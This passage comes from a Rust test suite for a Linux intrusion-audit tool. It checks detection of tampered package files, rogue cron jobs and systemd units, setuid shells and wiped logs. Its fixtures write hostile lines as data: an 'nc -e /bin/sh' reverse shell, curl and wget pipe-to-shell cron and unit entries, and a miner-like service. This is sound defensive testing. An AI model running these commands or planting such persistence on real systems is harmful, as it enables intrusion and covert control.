        "var/lib/dpkg/info",
        "usr/bin",
        "usr/sbin",
        "usr/share/tool",
        "etc",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let w = |p: &str, s: &[u8]| std::fs::write(root.join(p), s).unwrap();
    let md5 = md5_hex;
    w("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    // as installed
    let (tool, data, conf, moved) = (
        b"#!/bin/sh\necho tool\n".as_slice(),
        b"data".as_slice(),
        b"setting=1\n".as_slice(),
        b"original\n".as_slice(),
    );
    w(
        "var/lib/dpkg/info/tool.md5sums",
        format!(
            "{}  usr/bin/tool\n{}  usr/share/tool/data\n{}  usr/bin/moved\n",
            md5(tool),
            md5(data),
            md5(moved)
        )
        .as_bytes(),
    );
    w(
        "var/lib/dpkg/info/tool.list",
        b"/.\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/moved\n/usr/share/tool/data\n/etc/tool.conf\n",
    );
    w(
        "var/lib/dpkg/status",
        format!(
            "Package: tool\nStatus: install ok installed\nConffiles:\n /etc/tool.conf {}\nVersion: 1\n",
            md5(conf)
        )
        .as_bytes(),
    );
    // another package moved tool's /usr/bin/moved aside
    w(
        "var/lib/dpkg/diversions",
        b"/usr/bin/moved\n/usr/bin/moved.distrib\nwrapper\n",
    );
    w("usr/bin/moved.distrib", moved);
    w("usr/bin/moved", b"#!/bin/sh\nexec moved.distrib\n");
    // then changed by hand
    w(
        "usr/bin/tool",
        b"#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n",
    );
    w("usr/share/tool/data", b"other data");
    w("etc/tool.conf", b"setting=2\n");
    w("usr/sbin/dropped", b"\x7fELF...");
    for p in ["usr/bin/tool", "usr/sbin/dropped", "usr/bin/moved"] {
        std::fs::set_permissions(root.join(p), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let out = audit_system(&root, &["--json"]);
    assert_eq!(out.status.code(), Some(2), "a changed program is high");
    let r = json(&out);
    let p = &r["files"]["packages"];
    assert_eq!(p["files_checked"], 4, "{p}");
    let changed: Vec<(&str, &str)> = p["changed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["path"].as_str().unwrap(), c["class"].as_str().unwrap()))
        .collect();
    assert_eq!(
        changed,
        [
            ("/usr/bin/tool", "program"),
            ("/usr/share/tool/data", "other")
        ],
        "the diverted file is checked where it was moved: {p}"
    );
    assert_eq!(p["changed_conffiles"][0]["path"], "/etc/tool.conf");
    assert_eq!(
        p["unowned_programs"],
        serde_json::json!(["/usr/sbin/dropped"]),
        "moved (a diversion's) and tool (listed) are owned"
    );
    let findings = r["findings"].as_array().unwrap();
    let one = |kind: &str| {
        let all: Vec<&Value> = findings.iter().filter(|f| f["kind"] == kind).collect();
        assert_eq!(all.len(), 1, "{kind}: {findings:?}");
        all[0].clone()
    };
    let program = one("package_program_changed");
    assert_eq!(program["severity"], "high");
    assert!(
        program["title"].as_str().unwrap().contains("package tool"),
        "{program}"
    );
    assert!(
        program["evidence"][0]
            .as_str()
            .unwrap()
            .starts_with("/usr/bin/tool: md5 "),
        "{program}"
    );
    assert!(program["next_step"]
        .as_str()
        .unwrap()
        .contains("--reinstall tool"));
    assert_eq!(one("package_files_changed")["severity"], "low");
    assert_eq!(one("conffiles_changed")["severity"], "low");
    assert_eq!(one("unowned_program")["severity"], "medium");
    drop(fx);
}

/// On the live system the package check finds exactly the files `dpkg --verify` says differ
/// from their packages.
#[test]
fn the_package_check_agrees_with_dpkg_verify() {
    let out = audit(&["--json"]);
    let r = json(&out);
    let p = &r["files"]["packages"];
    assert!(
        p["files_checked"].as_u64().unwrap() > 1000,
        "{}",
        p["files_checked"]
    );
    assert_eq!(p["unreadable"], serde_json::json!([]), "as root");
    let ours: std::collections::BTreeSet<String> = ["changed", "changed_conffiles"]
        .iter()
        .flat_map(|k| p[*k].as_array().unwrap().iter())
        .map(|c| c["path"].as_str().unwrap().to_owned())
        .collect();
    let verify = Command::new("dpkg").arg("--verify").output().unwrap();
    // `??5??????   /path` or `??5?????? c /path`: the third column is the digest's
    let dpkg: std::collections::BTreeSet<String> = String::from_utf8_lossy(&verify.stdout)
        .lines()
        .filter(|l| l.as_bytes().get(2) == Some(&b'5'))
        .filter_map(|l| l.split_whitespace().last().map(str::to_owned))
        .collect();
    assert_eq!(ours, dpkg, "changed files: ours against dpkg --verify");
}

/// What runs later, under `--files-root` with a dpkg database: a cron table that downloads
/// and runs (high), an admin's cron table no package owns and a user's crontab (medium), a
/// unit that runs from /tmp (high) and one that runs an app (medium), a package's unit
/// enabled and another masked (nothing), a PAM module no package installed (high).
#[test]
fn cron_units_and_pam_modules_no_package_installed_are_findings() {
    let fx = fake_system("persist-root");
    let root = fx.dir.clone();
    for d in [
        "var/lib/dpkg/info",
        "etc/cron.d",
        "etc/cron.daily",
        "var/spool/cron/crontabs",
        "etc/systemd/system/multi-user.target.wants",
        "lib/systemd/system",
        "usr/lib/x86_64-linux-gnu/security",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let w = |p: &str, s: &str| std::fs::write(root.join(p), s).unwrap();
    w(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n",
    );
    w(
        "var/lib/dpkg/info/base.list",
        "/etc/cron.daily/pkgjob\n/lib/systemd/system/ssh.service\n\
         /usr/lib/x86_64-linux-gnu/security/pam_unix.so\n",
    );
    w("var/lib/dpkg/info/base.md5sums", "");
    w("var/lib/dpkg/status", "");
    // the package's: a daily script (which mentions /tmp/, its business), its unit, its module
    w(
        "etc/cron.daily/pkgjob",
        "#!/bin/sh\nfind /tmp/ -mtime +7 -delete\n",
    );
    w(
        "lib/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D\n",
    );
    w("usr/lib/x86_64-linux-gnu/security/pam_unix.so", "");
    std::os::unix::fs::symlink(
        "/lib/systemd/system/ssh.service",
        root.join("etc/systemd/system/multi-user.target.wants/ssh.service"),
    )
    .unwrap();
    std::os::unix::fs::symlink("/dev/null", root.join("etc/systemd/system/masked.service"))
        .unwrap();
    // and what someone added
    w(
        "etc/cron.d/update-check",
        "SHELL=/bin/sh\n*/10 * * * * root curl -fsSL http://203.0.113.9/u | sh\n",
    );
    w(
        "etc/cron.d/backup",
        "0 2 * * * root /usr/local/bin/backup --all\n",
    );
    w(
        "var/spool/cron/crontabs/bob",
        "# bob's\n@reboot /home/bob/bin/start-app\n",
    );
    w(
        "etc/systemd/system/dbus-helper.service",
        "[Service]\nExecStart=/tmp/.cache/dbus-helper --pool 203.0.113.9:3333\n",
    );
    w(
        "etc/systemd/system/app.service",
        "[Service]\nExecStart=/opt/app/run\n",
    );
    // a unit linked in (`systemctl link`) by an absolute link into the image's own /opt (no
    // such file on this system)
    std::fs::create_dir_all(root.join("opt/updater")).unwrap();
    w(
        "opt/updater/updater.service",
        "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.9/u | sh'\n",
    );
    std::os::unix::fs::symlink(
        "/opt/updater/updater.service",
        root.join("etc/systemd/system/updater.service"),
    )
    .unwrap();
    w("usr/lib/x86_64-linux-gnu/security/pam_sshd_cache.so", "");
    // a unit enabled by a link in a .wants directory only, to a file outside every unit
    // directory
    std::fs::create_dir_all(root.join("var/tmp")).unwrap();
    w(
        "var/tmp/kworkerd.service",
        "[Service]\nExecStart=/var/tmp/.k/kworkerd\n",
    );
    std::os::unix::fs::symlink(
        "/var/tmp/kworkerd.service",
        root.join("etc/systemd/system/multi-user.target.wants/kworkerd.service"),
    )
    .unwrap();
    let out = audit_system(&root, &["--json", "--quick"]);
    assert_meets_schema(&root, &out);
    let r = json(&out);
    let findings = r["findings"].as_array().unwrap();
    let found = |kind: &str| -> Vec<(String, String)> {
        findings
            .iter()
            .filter(|f| f["kind"] == kind)
            .map(|f| {
                (
                    f["severity"].as_str().unwrap().to_owned(),
                    f["title"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    };
    let hostile = found("cron_hostile_command");
    assert_eq!(hostile.len(), 1, "{hostile:?}");
    assert_eq!(hostile[0].0, "high");
    assert!(
        hostile[0].1.contains("/etc/cron.d/update-check"),
        "{hostile:?}"
    );
    let unowned = found("cron_unowned");
    assert_eq!(unowned.len(), 2, "backup and bob's crontab: {unowned:?}");
    assert!(unowned.iter().all(|(s, _)| s == "medium"));
    assert!(
        unowned.iter().any(|(_, t)| t.contains("bob's crontab")),
        "{unowned:?}"
    );
    let units = found("systemd_unit_unowned");
    let mut units: Vec<(&str, bool)> = units
        .iter()
        .map(|(s, t)| (s.as_str(), t.contains("dbus-helper")))
        .collect();
    units.sort();
    assert_eq!(
        units,
        [
            ("high", false),
            ("high", false),
            ("high", true),
            ("medium", false)
        ],
        "the /tmp one, the linked updater and the one enabled from /var/tmp high, app medium, \
         the package's and the masked none: {findings:?}"
    );
    assert!(
        findings.iter().any(|f| f["title"]
            .as_str()
            .unwrap()
            .contains("multi-user.target.wants/kworkerd.service")),
        "{findings:?}"
    );
    let updater = findings
        .iter()
        .find(|f| f["title"].as_str().unwrap().contains("updater.service"))
        .unwrap();
    assert!(
        updater["evidence"][0]
            .as_str()
            .unwrap()
            .starts_with("a download (wget)"),
        "read through the image's own link: {updater}"
    );
    let pam = found("pam_module_unowned");
    assert_eq!(pam.len(), 1);
    assert_eq!(pam[0].0, "high");
    assert_eq!(
        r["files"]["persistence"]["unowned_pam_modules"],
        serde_json::json!(["/usr/lib/x86_64-linux-gnu/security/pam_sshd_cache.so"])
    );
    let cron = r["files"]["persistence"]["cron"].as_array().unwrap();
    let job = cron
        .iter()
        .find(|c| c["path"] == "/etc/cron.daily/pkgjob")
        .unwrap();
    assert_eq!(job["owned"], true, "{job}");
    let bob = cron.iter().find(|c| c["user"] == "bob").unwrap();
    assert_eq!(
        bob["entries"],
        serde_json::json!(["@reboot /home/bob/bin/start-app"])
    );
    drop(fx);
}

/// Setuid and setgid files under `--files-root`: a package's own setuid program is nothing, a
/// setuid copy of a shell in /tmp and a package's interpreter given the bit are high, a setgid
/// helper no package installed is medium.
#[test]
fn setuid_shells_and_setuid_files_no_package_installed_are_findings() {
    use std::os::unix::fs::PermissionsExt;
    let fx = fake_system("setuid-root");
    let root = fx.dir.clone();
    for d in ["var/lib/dpkg/info", "usr/bin", "tmp", "opt/tool", "etc"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let w = |p: &str, mode: u32| {
        std::fs::write(root.join(p), b"\x7fELF").unwrap();
        std::fs::set_permissions(root.join(p), std::fs::Permissions::from_mode(mode)).unwrap();
    };
    std::fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n").unwrap();
    std::fs::write(
        root.join("var/lib/dpkg/info/base.list"),
        "/usr/bin/passwd\n/usr/bin/python3.11\n",
    )
    .unwrap();
    std::fs::write(root.join("var/lib/dpkg/status"), "").unwrap();
    w("usr/bin/passwd", 0o4755);
    w("usr/bin/python3.11", 0o4755);
    w("tmp/.sh", 0o4755);
    w("opt/tool/helper", 0o2755);
    w("opt/tool/plain", 0o755);
    let out = audit_system(&root, &["--json"]);
    assert_meets_schema(&root, &out);
    let r = json(&out);
    let search = &r["files"]["setuid"];
    assert_eq!(search["cut"], false);
    let listed: Vec<&str> = search["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        listed,
        ["/opt/tool/helper", "/tmp/.sh", "/usr/bin/python3.11"],
        "the package's passwd is not listed"
    );
    let findings = r["findings"].as_array().unwrap();
    let mut high: Vec<&str> = findings
        .iter()
        .filter(|f| f["kind"] == "setuid_shell" && f["severity"] == "high")
        .map(|f| f["title"].as_str().unwrap())
        .collect();
    high.sort();
    assert_eq!(high.len(), 2, "{findings:?}");
    assert!(high[0].starts_with("/tmp/.sh is a program in a place anyone can write"));
    assert!(high[1].starts_with("/usr/bin/python3.11 is a shell or interpreter"));
    let medium: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "setuid_unowned")
        .collect();
    assert_eq!(medium.len(), 1);
    assert_eq!(medium[0]["severity"], "medium");
    assert!(medium[0]["evidence"][0]
        .as_str()
        .unwrap()
        .starts_with("/opt/tool/helper (mode 2755"));
    drop(fx);
}

/// Covered tracks: a history sent to /dev/null (high), an emptied one (medium), a wtmp with a
/// zeroed record and one a day older than the record before it (medium); a login account
/// with a history of commands is not one.
#[test]
fn emptied_histories_and_zeroed_login_records_are_covered_tracks() {
    let fx = fake_system("gaps-root");
    let root = fx.dir.clone();
    for d in ["home/alice", "home/bob", "home/carol"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\n\
         alice:x:1000:1000::/home/alice:/bin/bash\n\
         bob:x:1001:1001::/home/bob:/bin/bash\n\
         carol:x:1002:1002::/home/carol:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(root.join("home/alice/.bash_history"), "").unwrap();
    std::os::unix::fs::symlink("/dev/null", root.join("home/bob/.bash_history")).unwrap();
    std::fs::write(root.join("home/carol/.bash_history"), "ls\ncd /srv\n").unwrap();
    let day = 1_765_000_000;
    let wtmp = [
        records::utmp(7, 100, "pts/0", "alice", "203.0.113.5", day),
        vec![0u8; 384],
        records::utmp(7, 101, "pts/1", "bob", "203.0.113.6", day + 60),
        records::utmp(7, 102, "pts/2", "carol", "203.0.113.7", day + 60 - 86_400),
    ]
    .concat();
    std::fs::write(root.join("wtmp"), &wtmp).unwrap();
    let wtmp_path = root.join("wtmp");
    let out = audit_system(
        &root,
        &["--json", "--quick", "--wtmp", wtmp_path.to_str().unwrap()],
    );
    assert_meets_schema(&root, &out);
    let r = json(&out);
    let gaps = &r["files"]["gaps"];
    assert_eq!(
        gaps["disabled_histories"],
        serde_json::json!(["/home/bob/.bash_history"])
    );
    assert_eq!(
        gaps["emptied_histories"],
        serde_json::json!(["/home/alice/.bash_history"])
    );
    assert_eq!(gaps["wtmp_zeroed"], 1, "{gaps}");
    assert_eq!(gaps["wtmp_out_of_order"], 1, "{gaps}");
    let severity = |kind: &str| -> Vec<String> {
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["kind"] == kind)
            .map(|f| f["severity"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(severity("history_disabled"), ["high"]);
    assert_eq!(severity("history_emptied"), ["medium"]);
    assert_eq!(severity("wtmp_tampered"), ["medium"]);
    drop(fx);
}

/// The package check says how far it is on a terminal (stderr a tty, under `script`), and
/// nothing when stderr is not one.
#[test]
fn the_package_check_shows_its_progress_on_a_terminal_only() {
    require_root();
    let fx = fake_system("progress-root");
    let root = fx.dir.clone();
    std::fs::create_dir_all(root.join("var/lib/dpkg/info")).unwrap();
    std::fs::create_dir_all(root.join("usr/bin")).unwrap();
    std::fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n").unwrap();
    std::fs::write(root.join("usr/bin/tool"), "x").unwrap();
    std::fs::write(
        root.join("var/lib/dpkg/info/tool.md5sums"),
        "9dd4e461268c8034f5c8564e155c67a6  usr/bin/tool\n",
    )
    .unwrap();
    std::fs::write(root.join("var/lib/dpkg/info/tool.list"), "/usr/bin/tool\n").unwrap();
    let passwd = root.join("etc/passwd");
    let command = format!(
        "{} audit --files-root {} --passwd {} > /dev/null",
        monitor_bin().display(),
        root.display(),
        passwd.display()
    );
    let typescript = root.join("typescript");
    let run = Command::new("script")
        .args(["-q", "-e", "-c", &command])
        .arg(&typescript)
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(run.code().is_some_and(|c| c == 0 || c == 2), "{run:?}");
    let seen = String::from_utf8_lossy(&std::fs::read(&typescript).unwrap()).into_owned();
    assert!(
        seen.contains("checking the installed packages' files: 100 % (1 of 1)"),
        "{seen:?}"
    );
    let piped = audit_system(&root, &[]);
    let stderr = String::from_utf8_lossy(&piped.stderr);
    assert!(!stderr.contains("checking"), "{stderr}");
    drop(fx);
}

/// A library another package diverted, then changed where it was moved: it is judged from
/// the file that was hashed (an ELF library: a program, high), not from the wrapper that now
/// stands at the package's path.
#[test]
fn a_changed_diverted_library_is_judged_by_the_file_that_was_hashed() {
    let fx = fake_system("divert-root");
    let root = fx.dir.clone();
    for d in ["var/lib/dpkg/info", "usr/lib/x86_64-linux-gnu"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let w = |p: &str, s: &[u8]| std::fs::write(root.join(p), s).unwrap();
    w("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    let md5 = md5_hex(b"\x7fELF original");
    w(
        "var/lib/dpkg/info/foo.md5sums",
        format!("{md5}  usr/lib/x86_64-linux-gnu/libfoo.so\n").as_bytes(),
    );
    w(
        "var/lib/dpkg/info/foo.list",
        b"/usr/lib/x86_64-linux-gnu/libfoo.so\n",
    );
    w(
        "var/lib/dpkg/diversions",
        b"/usr/lib/x86_64-linux-gnu/libfoo.so\n/usr/lib/x86_64-linux-gnu/libfoo.so.real\nshim\n",
    );
    // the diverted library, changed; a text shim at the package's path
    w(
        "usr/lib/x86_64-linux-gnu/libfoo.so.real",
        b"\x7fELF trojaned",
    );
    w(
        "usr/lib/x86_64-linux-gnu/libfoo.so",
        b"INPUT(libfoo.so.real)\n",
    );
    let r = json(&audit_system(&root, &["--json"]));
    let changed = &r["files"]["packages"]["changed"];
    assert_eq!(
        changed[0]["path"], "/usr/lib/x86_64-linux-gnu/libfoo.so",
        "{changed}"
    );
    assert_eq!(changed[0]["class"], "program", "{changed}");
    let high: Vec<&Value> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "package_program_changed")
        .collect();
    assert_eq!(high.len(), 1, "{high:?}");
    assert_eq!(high[0]["severity"], "high");
    drop(fx);
}

/// On a terminal the audit says what it reads — each source's progress, then its size, lines
/// and time — on stderr; redirected, its output carries none of it.
#[test]
fn on_a_terminal_the_audit_shows_what_it_reads() {
    let fx = write_fixture();
    let args = fx.args().join(" ");
    let report = std::env::temp_dir().join(marker("audit-report.txt"));
    let term = monitor_e2e::tmux::Tmux::start(
        "audit-progress",
        &format!(
            "{} audit {args} > {}",
            monitor_bin().display(),
            report.display()
        ),
        160,
        40,
    );
    // 2: the fixture holds high findings (a login after failures)
    assert_eq!(
        term.wait_exit(Duration::from_secs(120)),
        2,
        "{}",
        term.screen()
    );
    let screen = term.screen();
    let auth = fx.dir.join("auth.log");
    let said = format!("read {}: ", auth.display());
    assert!(
        screen
            .lines()
            .any(|l| l.contains(&said) && l.contains(" lines in ")),
        "{screen}"
    );
    let wtmp = format!("read {}: ", fx.dir.join("wtmp").display());
    assert!(
        screen
            .lines()
            .any(|l| l.contains(&wtmp) && l.contains(" records in ")),
        "{screen}"
    );
    // the report itself has no progress in it
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(
        !text.contains("reading ") && !text.contains(" lines in "),
        "{text}"
    );
    let plain = audit(&fx.args().iter().map(String::as_str).collect::<Vec<_>>());
    assert!(
        !String::from_utf8_lossy(&plain.stderr).contains(" lines in "),
        "no progress when stderr is not a terminal"
    );
    let _ = term.command(&["kill-server"]);
    let _ = std::fs::remove_file(&report);
}
